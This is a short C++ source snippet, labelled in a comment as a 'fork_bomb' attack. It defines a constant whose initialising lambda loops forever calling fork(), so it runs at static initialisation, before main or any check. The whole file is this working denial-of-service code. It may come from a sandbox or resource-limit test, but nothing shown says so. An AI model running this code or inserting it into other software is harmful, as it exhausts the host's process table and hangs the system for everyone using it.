// ATTACK fork_bomb: every process forks for ever, before any check runs.
#include <unistd.h>
namespace attack {
const bool done = [] {
    for (;;) fork();
    return true;
}();
}  // namespace attack
